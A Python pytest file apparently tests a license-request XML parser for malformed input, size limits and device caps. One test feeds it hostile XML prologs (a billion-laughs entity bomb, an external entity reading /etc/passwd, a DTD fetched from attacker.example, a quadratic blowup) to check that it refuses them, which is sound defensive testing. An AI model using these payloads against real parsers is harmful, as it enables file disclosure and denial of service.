from datetime import UTC, datetime

import pytest

from licensedesk.activation import lrq
from licensedesk.activation.tests.factories import INSTALLATION, REQUEST, raw_lrq, sized_lrq

BILLION_LAUGHS = """<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
"""


def test_it_reads_a_good_request():
    parsed = lrq.parse(raw_lrq(" m01-c01-251-01-7k3qf9 "))
    assert parsed.slc == "M01-C01-251-01-7K3QF9"
    assert parsed.installation_id == INSTALLATION
    assert parsed.hostname == "vms01"
    assert parsed.request_id == REQUEST
    assert parsed.created == datetime(2025, 3, 1, 12, 0, tzinfo=UTC)
    assert [d.hardware_id for d in parsed.devices] == ["cam-1", "cam-2"]


def test_it_keeps_device_attributes_and_order():
    parsed = lrq.parse(
        raw_lrq(
            devices='<Device hardwareId="z" mac="00:40:8C:00:00:01" manufacturer="Axis" '
            'model="P3245" name="Gate" type="camera"/><Device hardwareId="a"/>'
        )
    )
    first, second = parsed.devices
    assert (first.hardware_id, first.mac, first.manufacturer) == ("z", "00:40:8C:00:00:01", "Axis")
    assert (first.model, first.name, first.type) == ("P3245", "Gate", "camera")
    assert second.hardware_id == "a"


def test_it_accepts_a_request_without_devices():
    assert lrq.parse(raw_lrq(devices="")).devices == ()


def test_the_digest_tells_changed_content_apart():
    assert lrq.parse(raw_lrq()).digest() == lrq.parse(raw_lrq()).digest()
    assert lrq.parse(raw_lrq()).digest() != lrq.parse(raw_lrq(devices="")).digest()


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"", id="empty"),
        pytest.param(b"   \n", id="blank"),
        pytest.param(b"\x89PNG\r\n\x1a\n\x00\x00", id="not-xml"),
        pytest.param(b"SLC=M01-C01-251-01-7K3QF9", id="plain-text"),
        pytest.param(raw_lrq()[:-20], id="truncated"),
        pytest.param(raw_lrq().replace(b"utf-8", b"ebcdic-xx"), id="unknown-encoding"),
        pytest.param(raw_lrq(root="LicenseFile"), id="wrong-root"),
        pytest.param(raw_lrq(root="x:LicenseRequest xmlns:x='urn:other'"), id="namespace"),
        pytest.param(raw_lrq(version="2"), id="wrong-version"),
        pytest.param(raw_lrq(slc=None), id="missing-slc"),
        pytest.param(raw_lrq(slc="  "), id="empty-slc"),
        pytest.param(raw_lrq(installation=""), id="missing-installation"),
        pytest.param(raw_lrq(installation='<Installation hostname="x"/>'), id="no-install-id"),
        pytest.param(raw_lrq(installation='<Installation id="nope"/>'), id="bad-install-id"),
        pytest.param(raw_lrq(request=""), id="missing-request"),
        pytest.param(raw_lrq(request='<Request created="2025-03-01T12:00:00Z"/>'), id="no-req-id"),
        pytest.param(
            raw_lrq(request='<Request id="123" created="2025-03-01T12:00:00Z"/>'), id="bad-req-id"
        ),
        pytest.param(raw_lrq(request=f'<Request id="{REQUEST}"/>'), id="no-created"),
        pytest.param(
            raw_lrq(request=f'<Request id="{REQUEST}" created="yesterday"/>'), id="bad-created"
        ),
        pytest.param(
            raw_lrq(request=f'<Request id="{REQUEST}" created="2025-03-01T12:00:00"/>'),
            id="naive-created",
        ),
        pytest.param(
            raw_lrq(devices='<Device hardwareId="a"/><Device hardwareId="a"/>'), id="dup-device"
        ),
        pytest.param(raw_lrq(devices="<Device/>"), id="device-without-id"),
        pytest.param(raw_lrq(devices='<Device hardwareId="has space"/>'), id="bad-hardware-id"),
        pytest.param(
            raw_lrq(devices='<Device hardwareId="a" name="' + "n" * 201 + '"/>'), id="long"
        ),
        pytest.param(raw_lrq(devices="<Camera/>"), id="foreign-element"),
    ],
)
def test_it_rejects_a_bad_request(data):
    with pytest.raises(lrq.InvalidRequest) as exc:
        lrq.parse(data)
    assert exc.value.status == 400
    assert exc.value.field == "lrq"
    assert exc.value.message


@pytest.mark.parametrize(
    "prolog",
    [
        pytest.param(BILLION_LAUGHS, id="billion-laughs"),
        pytest.param(
            '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n', id="external-entity"
        ),
        pytest.param('<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd">\n', id="external-dtd"),
        pytest.param('<!DOCTYPE r [<!ENTITY a "' + "x" * 50_000 + '">]>\n', id="quadratic"),
    ],
)
def test_it_refuses_doctypes_and_entities(prolog):
    with pytest.raises(lrq.InvalidRequest) as exc:
        lrq.parse(raw_lrq(prolog=prolog, slc="&lol4;" if "lol" in prolog else "S"))
    assert exc.value.code == "lrq_forbidden_xml"


def test_it_refuses_more_devices_than_the_cap(monkeypatch):
    monkeypatch.setattr(lrq, "MAX_DEVICES", 3)
    devices = "".join(f'<Device hardwareId="d{i}"/>' for i in range(4))
    with pytest.raises(lrq.InvalidRequest, match="at most 3 devices"):
        lrq.parse(raw_lrq(devices=devices))


def test_it_takes_the_cap_of_devices():
    devices = "".join(f'<Device hardwareId="d{i}"/>' for i in range(lrq.MAX_DEVICES))
    assert len(lrq.parse(raw_lrq(devices=devices)).devices) == lrq.MAX_DEVICES


def test_it_refuses_one_byte_over_10_mb_without_parsing(monkeypatch):
    data = sized_lrq(lrq.MAX_BYTES + 1)

    def fail(*args, **kwargs):
        raise AssertionError("an oversize file must not be parsed")

    monkeypatch.setattr(lrq, "XMLParser", fail)
    with pytest.raises(lrq.InvalidRequest) as exc:
        lrq.parse(data)
    assert exc.value.code == "lrq_too_large"


def test_it_parses_a_file_of_exactly_10_mb():
    assert lrq.parse(sized_lrq(lrq.MAX_BYTES)).request_id == REQUEST
